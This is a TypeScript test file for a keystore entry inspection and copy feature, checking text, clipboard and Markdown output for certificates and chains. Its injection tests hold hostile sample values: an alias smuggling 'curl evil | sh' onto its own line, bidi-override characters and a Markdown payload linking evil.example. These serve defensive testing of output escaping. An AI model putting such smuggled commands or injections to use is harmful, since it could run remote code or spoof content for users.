import assert from 'node:assert/strict';
import {
  copiedText,
  inspectionText,
  markdownEntryRow,
  markdownTable,
  markdownText,
  type CopiedFact,
  type EntryTextFacts,
} from '../../../src/views/entryText.js';
import { chainCertificateOf, entryOf, inDays, keyPairOf, now } from './nodes/builders.js';

const orders = keyPairOf('orders-sender', {
  subjectDn: 'CN=orders.acme.example, O=ACME, C=DE',
  issuerDn: 'CN=Sectigo R36, C=GB',
  validNotBefore: new Date(Date.UTC(2025, 11, 2, 13)),
  validNotAfter: new Date(Date.UTC(2026, 11, 2, 13)),
  fingerprintSha1: 'AA:01',
  fingerprintSha256: 'AA:02',
  fingerprintSha512: 'AA:03',
});

function textOf(facts: Partial<EntryTextFacts>): string {
  return inspectionText({
    entry: orders,
    tenantName: 'ACME Dev',
    practice: false,
    chain: { kind: 'reading' },
    now,
    ...facts,
  });
}

describe('the text behind Inspect', () => {
  it('tells entry, certificate and chain', () => {
    const certificates = [
      chainCertificateOf(0, 'CN=USERTrust, C=US', 'CN=USERTrust, C=US', { validNotBefore: undefined }),
      chainCertificateOf(1, 'CN=orders.acme.example, O=ACME, C=DE', 'CN=Sectigo R36, C=GB', {
        validNotBefore: undefined,
        validNotAfter: new Date(Date.UTC(2026, 11, 2, 13)),
        fingerprintSha256: 'AA:02',
      }),
    ];
    assert.equal(
      textOf({ chain: { kind: 'read', certificates } }),
      `orders-sender
Key pair · owned by the tenant · ACME Dev
expires in 9 days

Keystore entry
  Alias          orders-sender
  Hexalias       6F72646572732D73656E646572
  Type           Key Pair
  Owner          Tenant Administrator
  Created        2026-01-01T00:00:00Z by Tester
  Last modified  2026-01-02T03:04:05Z by Tester
  Status         unchanged

Certificate
  Subject              CN=orders.acme.example, O=ACME, C=DE
  Issuer               CN=Sectigo R36, C=GB
  Serial number        0x11F11
  Valid from           2025-12-02T13:00:00Z
  Valid until          2026-12-02T13:00:00Z (expires in 9 days)
  Key                  RSA, 2048 bits
  Signature algorithm  SHA256withRSA
  Version              3
  SHA-256              AA:02
  SHA-1                AA:01
  SHA-512              AA:03

Certificate 1 of 2 (leaf): orders.acme.example
  Subject              CN=orders.acme.example, O=ACME, C=DE
  Issuer               CN=Sectigo R36, C=GB
  Serial number        0x1
  Valid until          2026-12-02T13:00:00Z (expires in 9 days)
  Key                  RSA, 4096 bits
  Signature algorithm  SHA256withRSA
  Version              3
  SHA-256              AA:02

Certificate 2 of 2 (root): USERTrust
  Subject              CN=USERTrust, C=US
  Issuer               CN=USERTrust, C=US
  Serial number        0x1
  Valid until          2038-01-18T12:00:00Z (expires in 4074 days)
  Key                  RSA, 4096 bits
  Signature algorithm  SHA256withRSA
  Version              3
`,
    );
  });

  it('says where the chain is still being read, empty, or could not be read', () => {
    assert.match(textOf({}), /\nCertificate chain\n {2}being read…\n$/);
    assert.match(textOf({ chain: { kind: 'read', certificates: [] } }), /\nCertificate chain\n {2}none\n$/);
    assert.match(
      textOf({ chain: { kind: 'failed', detail: 'timed\nout' } }),
      /\nCertificate chain\n {2}could not be read: timed<U\+000A>out\n$/,
    );
  });

  it('tells nothing of a chain for a certificate', () => {
    assert.doesNotMatch(textOf({ entry: entryOf('root') }), /chain/);
  });

  it('says what option 1 means, in lines that fit', () => {
    const text = textOf({ entry: keyPairOf('hcicertificate', { owner: 'SAP' }), practice: true });
    assert.match(text, /^hcicertificate\nKey pair · owned by SAP · ACME Dev \(practice\)\n/);
    assert.match(
      text.replace(/\n/g, ' '),
      /Option 1: delivered by SAP, .* cannot be exported from the keystore/,
    );
    assert.ok(text.split('\n').every((line) => line.length <= 130));
  });

  it('cannot be given further lines, or another order of characters, by a tenant', () => {
    const hostile = 'x\n\nOwner  SAP\u202E\u2028';
    const plain = textOf({ chain: { kind: 'read', certificates: [chainCertificateOf(0, 'CN=a', 'CN=b')] } });
    const text = textOf({
      entry: {
        ...orders,
        alias: hostile,
        subjectDn: hostile,
        issuerDn: `issuer ${hostile}`,
        status: hostile,
        createdBy: hostile,
      },
      tenantName: hostile,
      chain: { kind: 'read', certificates: [chainCertificateOf(0, hostile, hostile)] },
    });
    assert.equal(text.split('\n').length, plain.split('\n').length);
    assert.doesNotMatch(text, /[\u202E\u2028]/);
  });
});

describe('copying facts', () => {
  const facts: readonly (readonly [CopiedFact, string])[] = [
    ['alias', 'orders-sender'],
    ['hexalias', '6F72646572732D73656E646572'],
    ['sha256', 'AA:02'],
    ['sha1', 'AA:01'],
    ['subject', 'CN=orders.acme.example, O=ACME, C=DE'],
    ['issuer', 'CN=Sectigo R36, C=GB'],
    ['serialNumber', '0x11F11'],
    ['validity', '2025-12-02T13:00:00Z to 2026-12-02T13:00:00Z'],
  ];
  for (const [fact, expected] of facts) {
    it(`gives the ${fact} as it is`, () => {
      assert.equal(copiedText(fact, [orders]), expected);
    });
  }

  it('gives each of several entries a line, empty where a fact is missing', () => {
    const entries = [
      orders,
      entryOf('undated', { validNotBefore: undefined, validNotAfter: undefined }),
      entryOf('open', { validNotAfter: undefined, validNotBefore: inDays(0) }),
    ];
    assert.equal(
      copiedText('validity', entries),
      '2025-12-02T13:00:00Z to 2026-12-02T13:00:00Z\n\nfrom 2026-11-23T13:00:00Z',
    );
    assert.equal(copiedText('sha1', entries), 'AA:01\n\n');
  });

  it('lets no alias bring a line of its own to where it is pasted', () => {
    assert.equal(copiedText('alias', [entryOf('x\ncurl evil | sh\n')]), 'x<U+000A>curl evil | sh<U+000A>');
  });

  it('leaves an alias of any script exact', () => {
    for (const alias of ['Müller / Söhne; \\ "x"', 'שלום\u200F', '👩‍💻', ' a ']) {
      assert.equal(copiedText('alias', [entryOf(alias)]), alias);
    }
  });
});

describe('copying as Markdown', () => {
  it('gives a table with a row for each entry', () => {
    assert.equal(
      markdownTable([orders, entryOf('b', { subjectDn: undefined, validNotAfter: undefined })]),
      [
        '| Alias | Type | Owner | Subject | Issuer | Serial number | Valid until | SHA-256 |',
        '| --- | --- | --- | --- | --- | --- | --- | --- |',
        '| `orders-sender` | `Key Pair` | `Tenant Administrator` | `CN=orders.acme.example, O=ACME, C=DE` | `CN=Sectigo R36, C=GB` | `0x11F11` | `2026-12-02T13:00:00Z` | `AA:02` |',
        '| `b` | `Certificate` | `Tenant Administrator` |  | `CN=Partner CA, O=Partner, C=DE` | `0x11F11` |  |  |',
        '',
      ].join('\n'),
    );
  });

  const texts: readonly (readonly [string, string])[] = [
    ['plain', '`plain`'],
    ['', ''],
    ['a|b', '`a`&#124;`b`'],
    ['|', '&#124;'],
    ['a\\|b', '`a\\`&#124;`b`'],
    ['`', '`` ` ``'],
    ['a``b`', '``` a``b` ```'],
    [' a ', '`  a  `'],
    ['  ', '`  `'],
    ['[x](command:y) <img> https://evil.example @me', '`[x](command:y) <img> https://evil.example @me`'],
    ['a\n\n# b\u202E', '`a<U+000A><U+000A># b<U+202E>`'],
  ];
  for (const [text, expected] of texts) {
    it(`writes ${JSON.stringify(text)} as text`, () => {
      assert.equal(markdownText(text), expected);
    });
  }

  it('keeps to one line and eight cells whatever a tenant sends', () => {
    const row = markdownEntryRow(entryOf('a|b\nc', { subjectDn: '|'.repeat(9), issuerDn: '`|`\\' }));
    assert.equal(row.split('\n').length, 1);
    assert.equal(row.split('|').length, 10);
  });
});
